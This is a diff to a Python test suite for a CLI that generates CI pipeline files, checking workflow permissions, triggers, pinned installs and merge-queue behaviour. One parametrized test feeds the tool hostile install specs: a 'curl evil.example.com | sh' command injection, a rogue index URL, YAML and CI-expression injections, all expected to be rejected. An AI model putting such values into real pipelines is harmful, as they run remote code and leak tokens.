@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import re
+import shlex
 import shutil
 import subprocess
 import sys
@@ -25,11 +26,14 @@ ROOT = Path(__file__).parents[2]
 SCHEMAS = {
     ".github/workflows/tpm.yml": "github-workflows",
     ".github/workflows/tpm-release.yml": "github-workflows",
+    ".github/workflows/tpm-review.yml": "github-workflows",
+    ".github/workflows/tpm-daily.yml": "github-workflows",
     ".gitlab/tpm.yml": "gitlab-ci",
     ".gitlab-ci.yml": "gitlab-ci",
     ".azure-pipelines/tpm.yml": "azure-pipelines",
 }
-GITHUB, RELEASE = list(SCHEMAS)[:2]
+GITHUB, RELEASE, REVIEW, DAILY = list(SCHEMAS)[:4]
+TEMPLATES = ROOT / "src/tpmcli/app/ci_templates"
 PLATFORMS = ("github", "gitlab", "azure", "pre-commit")
 
 needs_jq = pytest.mark.skipif(
@@ -114,21 +118,129 @@ def test_no_script_has_an_expression_in_it(written: Repository) -> None:
 
 def test_the_required_job_cannot_be_skipped_and_may_only_read(written: Repository) -> None:
     workflow = load((written.root / GITHUB).read_text(encoding="utf-8"))
-    assert list(workflow["on"]) == [
-        *("pull_request", "pull_request_review", "merge_group", "schedule", "workflow_dispatch")
-    ]
+    assert list(workflow["on"]) == ["pull_request", "merge_group"]
+    assert workflow["on"]["pull_request"]["branches"] == ["main"]
     assert "paths" not in json.dumps(workflow["on"])
-    assert workflow["permissions"] == {"contents": "read", "pull-requests": "read"}
+    assert workflow["permissions"] == {}
     (job,) = workflow["jobs"].values()
-    assert not {"if", "continue-on-error", "needs", "permissions"} & job.keys()
-    install, checkout, check, *_ = job["steps"]
-    assert install["run"] == f"pipx install 'tpmcli=={__version__}'"
+    assert job["permissions"] == {"contents": "read", "pull-requests": "read"}
+    assert not {"if", "continue-on-error", "needs"} & job.keys()
+    _, checkout, check, *_ = job["steps"]
     assert checkout["with"] == {"fetch-depth": "0", "persist-credentials": "false"}
     assert "if" not in check
     for file in SCHEMAS:
         text = (written.root / file).read_text(encoding="utf-8")
         assert "|| true" not in text
         assert "pull_request_target" not in text
+
+
+def test_no_other_workflow_makes_a_check_of_the_required_name(written: Repository) -> None:
+    names = {}
+    for path in (GITHUB, RELEASE, REVIEW, DAILY):
+        for job in load((written.root / path).read_text(encoding="utf-8"))["jobs"].values():
+            names[job["name"]] = path
+    assert len(names) == 4
+    assert names["tpm gate"] == GITHUB
+
+
+def test_the_job_of_gitlab_is_kept_to_protected_branches(written: Repository) -> None:
+    job = load((written.root / ".gitlab/tpm.yml").read_text(encoding="utf-8"))["tpm gate"]
+    protected = '$CI_MERGE_REQUEST_TARGET_BRANCH_PROTECTED == "true"'
+    assert [rule["if"] for rule in job["rules"] if "merge_request" in rule["if"]] == [
+        f'$CI_PIPELINE_SOURCE == "merge_request_event" && {protected}'
+    ]
+
+
+@pytest.mark.parametrize(
+    ("branches", "written_for"),
+    [
+        (("refs/heads/setup", "refs/remotes/origin/main"), "main"),
+        (("refs/heads/setup", "refs/remotes/origin/master"), "master"),
+        (("refs/heads/setup", "refs/heads/main"), "main"),
+        (("refs/heads/setup",), "setup"),
+    ],
+)
+def test_the_job_is_for_the_main_branch_whichever_is_checked_out(
+    project: Repository, branches: tuple[str, ...], written_for: str
+) -> None:
+    project.git("checkout", "-q", "-b", "setup")
+    for branch in project.git("branch", "--format=%(refname)").split():
+        if branch not in branches:
+            project.git("update-ref", "-d", branch)
+    for ref in branches:
+        project.git("update-ref", ref, "HEAD")
+    project.ok("ci", "init", "github")
+    workflow = load((project.root / GITHUB).read_text(encoding="utf-8"))
+    assert workflow["on"]["pull_request"]["branches"] == [written_for]
+
+
+def _installs(root: Path, path: str) -> list[str]:
+    """What the scripts of a file install, requirement by requirement."""
+    loaded = load((root / path).read_text(encoding="utf-8"))
+    found = loaded[".tpm"]["before_script"] if path == ".gitlab/tpm.yml" else scripts(loaded)
+    (script,) = (each for each in found if "/bin/pip" in each)
+    words = shlex.split(script.partition("--no-deps")[2].replace("\\\n", " ").partition("\n")[0])
+    assert "--no-deps" in script
+    return words
+
+
+@pytest.mark.parametrize(
+    "path", [path for path in SCHEMAS if path not in (REVIEW, ".gitlab-ci.yml")]
+)
+def test_a_job_installs_nothing_but_versions_that_were_tried(
+    written: Repository, path: str
+) -> None:
+    wanted = (TEMPLATES / "requirements.txt").read_text(encoding="utf-8").split()
+    assert _installs(written.root, path) == [*wanted, f"tpmcli=={__version__}"]
+
+
+COMMIT, DIGEST = "0123456789" * 4, "01234567" * 8
+SPECS = (
+    f"tpmcli @ git+https://git.example.com/acme/tpm@{COMMIT}",
+    f"https://files.example.com/tpmcli-1.0.0-py3-none-any.whl#sha256={DIGEST}",
+    f"tpmcli @ https://files.example.com/tpmcli-1.0.0-py3-none-any.whl#sha256={DIGEST}",
+    "tpmcli==1.0.1",
+)
+
+
+@pytest.mark.parametrize("spec", SPECS)
+def test_a_job_installs_from_where_it_is_told(project: Repository, spec: str) -> None:
+    for platform in PLATFORMS:
+        project.ok("ci", "init", platform, "--install", spec)
+    for path in (GITHUB, RELEASE, DAILY, ".gitlab/tpm.yml", ".azure-pipelines/tpm.yml"):
+        assert _installs(project.root, path)[-1] == spec
+    config = load((project.root / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
+    assert {tuple(each["additional_dependencies"]) for each in config["repos"][0]["hooks"]} == {
+        (spec,)
+    }
+    assert "not-pinned" not in project.run("doctor").out
+    assert validate("github-workflows", project.root / GITHUB)[0] == 0
+
+
+@pytest.mark.parametrize(
+    ("spec", "message"),
+    [
+        ("tpmcli", "can change later"),
+        ("tpmcli>=1.0", "cannot be written"),
+        ("tpmcli~=1.0", "can change later"),
+        ("tpmcli @ git+https://git.example.com/acme/tpm@v1.0.0", "can change later"),
+        ("tpmcli @ git+https://git.example.com/acme/tpm@" + COMMIT[:10], "can change later"),
+        ("https://files.example.com/tpmcli-1.0.0-py3-none-any.whl", "can change later"),
+        ("./dist/tpmcli-1.0.0-py3-none-any.whl", "cannot be written"),
+        ("--index-url=https://evil.example.com/ tpmcli==1.0.0", "cannot be written"),
+        ("tpmcli==1.0.0'; curl evil.example.com | sh; '", "cannot be written"),
+        ("tpmcli==1.0.0\n  run: evil", "cannot be written"),
+        ("tpmcli==1.0.0${{ github.head_ref }}", "cannot be written"),
+        ("tpmcli==1.0.0$(System.AccessToken)", "cannot be written"),
+    ],
+)
+def test_what_may_change_or_become_a_script_is_not_installed(
+    project: Repository, spec: str, message: str
+) -> None:
+    done = project.run("ci", "init", "github", "--install", spec)
+    assert (done.code, done.out) == (2, "")
+    assert message in done.err
+    assert not (project.root / ".github").exists()
 
 
 def test_a_file_that_is_there_is_never_changed(written: Repository) -> None:
@@ -140,12 +252,13 @@ def test_a_file_that_is_there_is_never_changed(written: Repository) -> None:
     file = written.root / GITHUB
     release = written.root / RELEASE
     release.unlink()
-    file.write_text(file.read_text(encoding="utf-8").replace("17 5", "0 6"), encoding="utf-8")
+    text = file.read_text(encoding="utf-8")
+    file.write_text(text.replace("timeout-minutes: 15", "timeout-minutes: 9"), encoding="utf-8")
     before = file.read_bytes()
     done = written.run("ci", "init", "github")
     assert done.code == 1
     assert done.out.startswith(f"--- {GITHUB}\n+++ {GITHUB}")
-    assert '-    - cron: "0 6 * * *"\n+    - cron: "17 5 * * *"\n' in done.out
+    assert "-    timeout-minutes: 9\n+    timeout-minutes: 15\n" in done.out
     assert file.read_bytes() == before
     assert not release.exists()
 
@@ -224,11 +337,20 @@ class PullRequest:
             "github.event.pull_request.head.sha": head,
         }
 
-    def queued(self) -> dict[str, str]:
+    def queued(self, spoil: str = "") -> dict[str, str]:
+        """The queue squashes the pull request onto main; `spoil` is a file that it then lacks."""
         base = self.project.git("rev-parse", "main").strip()
+        self.clone.git("checkout", "-q", "--detach", base)
+        self.clone.git("merge", "-q", "--squash", "change")
+        if spoil:
+            self.clone.git("rm", "-q", "-f", spoil)
+        self.clone.commit("squashed by the queue")
+        queue = self.clone.git("rev-parse", "HEAD").strip()
+        self.clone.git("checkout", "-q", "change")
         return {
             "github.event_name": "merge_group",
             "github.event.merge_group.base_sha": base,
+            "github.event.merge_group.head_sha": queue,
             "github.event.merge_group.head_ref": f"refs/heads/gh-readonly-queue/main/pr-7-{base}",
         }
 
@@ -269,7 +391,7 @@ def test_a_product_manager_signs_by_approving(
     head = pull.offer()
     before = pull.runner.github(judging, pull.event("pull_request", head))
     assert before.code == 1, before
-    assert "identity-too-weak" in before.out
+    assert before.out.startswith("Waiting for the PM to approve")
     assert "\n::error " in before.out
     assert pull.runner.asked.read_text() == "repos/someone/ledger/pulls/7/reviews\n"
     reviews: list[dict[str, Any]] = [
@@ -278,14 +400,86 @@ def test_a_product_manager_signs_by_approving(
         {"user": {"login": "eve"}, "commit_id": None, "state": "APPROVED"},
     ]
     pull.runner.reviews.write_text(json.dumps(reviews))
-    for event in (pull.event("pull_request_review", head), pull.queued()):
+    # A review runs the job again, with the event that it had.
+    for event in (pull.event("pull_request", head), pull.queued()):
         after = pull.runner.github(judging, event)
         assert after.code == 0, after
+    # What the queue merges is judged, and not what the pull request's head would give.
+    spoilt = pull.runner.github(judging, pull.queued(spoil=".tpm/project.yaml"))
+    assert spoilt.code == 1, spoilt
+    assert "project-removed" in spoilt.out
     for name in ("gate.xml", "gate.sarif", "gate.md", "approvals.json"):
         assert (pull.runner.temp / "tpm" / name).stat().st_size > 2
     reviews.append({"user": {"login": "Pat"}, "commit_id": head, "state": "CHANGES_REQUESTED"})
     pull.runner.reviews.write_text(json.dumps(reviews))
-    assert pull.runner.github(judging, pull.event("pull_request_review", head)).code == 1
+    assert pull.runner.github(judging, pull.event("pull_request", head)).code == 1
+
+
+@needs_jq
+@pytest.mark.parametrize(
+    "event", ["pull_request_review", "push", "workflow_dispatch", "schedule", "workflow_call", ""]
+)
+def test_the_required_job_passes_for_no_event_without_a_base_of_its_own(
+    project: Repository, command: list[str], tmp_path: Path, event: str
+) -> None:
+    project.ok("ci", "init", "github")
+    project.commit("jobs")
+    pull = PullRequest(tmp_path, project, command)
+    pull.clone.write("src/code.py", "print(1)\n")
+    head = pull.offer()
+    done = pull.runner.github(_step(project.root / GITHUB), pull.event(event, head))
+    assert done.code == 3
+    assert f"not the event {event}\n" in done.out
+
+
+def _run(number: int, status: str, *pulls: int) -> dict[str, Any]:
+    return {"id": number, "status": status, "pull_requests": [{"number": each} for each in pulls]}
+
+
+RUNS = "repos/someone/ledger/actions/workflows/tpm.yml/runs?event=pull_request&head_sha=abc"
+RERUN = "POST repos/someone/ledger/actions/runs/{}/rerun"
+
+
+@needs_jq
+@pytest.mark.parametrize(
+    ("answers", "asked"),
+    [
+        ([[_run(3, "completed", 7), _run(2, "completed", 7)]], [RUNS, RERUN.format(3)]),
+        # One of another pull request of the same commit, and one of a fork, which names none.
+        ([[_run(4, "completed", 8), _run(2, "completed")]], [RUNS, RERUN.format(2)]),
+        # One that is under way is waited for.
+        (
+            [[_run(5, "in_progress", 7)], [_run(5, "completed", 7)]],
+            [RUNS, RUNS, RERUN.format(5)],
+        ),
+        # A pull request into another branch was not judged, and is not judged now.
+        ([[_run(4, "completed", 8)]], [RUNS]),
+        ([[]], [RUNS]),
+    ],
+)
+def test_a_review_runs_the_job_again_and_judges_nothing(
+    project: Repository,
+    command: list[str],
+    tmp_path: Path,
+    answers: list[list[dict[str, Any]]],
+    asked: list[str],
+) -> None:
+    project.ok("ci", "init", "github")
+    project.commit("jobs")
+    pull = PullRequest(tmp_path, project, command)
+    workflow = load((project.root / REVIEW).read_text(encoding="utf-8"))
+    (job,) = workflow["jobs"].values()
+    assert job["permissions"] == {"actions": "write"}
+    assert all("uses" not in step and "gate check" not in step["run"] for step in job["steps"])
+    sleep = pull.runner.programs / "sleep"
+    sleep.write_text("#!/bin/sh\n")
+    sleep.chmod(0o755)
+    told = "".join(json.dumps({"workflow_runs": runs}) + "\n" for runs in answers)
+    pull.runner.reviews.write_text(told)
+    (step,) = job["steps"]
+    done = pull.runner.github(step, pull.event("pull_request_review", "abc"))
+    assert done.code == 0, done
+    assert pull.runner.asked.read_text().splitlines() == asked
 
 
 @needs_jq
@@ -310,6 +504,12 @@ def test_the_daily_run_asks_what_was_decided(
     judging: Any, project: Repository, command: list[str], tmp_path: Path
 ) -> None:
     pull = PullRequest(tmp_path, project, command)
+    if "THROUGH" not in judging["env"]:
+        (judging,) = (
+            step
+            for step in load((project.root / DAILY).read_text())["jobs"]["daily"]["steps"]
+            if step.get("name") == "Check what was decided"
+        )
     daily = pull.runner.github(judging, {"github.event_name": "schedule"})
     assert daily.code == 0, daily
     assert pull.runner.asked.read_text() == ""
@@ -378,6 +578,9 @@ def test_azure_compares_with_the_target_branch_and_asks_who_approved(
     assert pull.runner.bash(script, tagged).code == 3
     daily = {**env, "BUILD_REASON": "Schedule", "BUILD_SOURCEBRANCH": "refs/heads/main"}
     assert pull.runner.bash(script, daily).code == 0
+    # By hand on the branch of the pull request: nothing would be compared.
+    by_hand = {**env, "BUILD_REASON": "Manual", "BUILD_SOURCEBRANCH": "refs/heads/change"}
+    assert pull.runner.bash(script, by_hand).code == 3
 
 
 def test_gitlab_compares_with_the_target_branch_and_asks_who_approved(
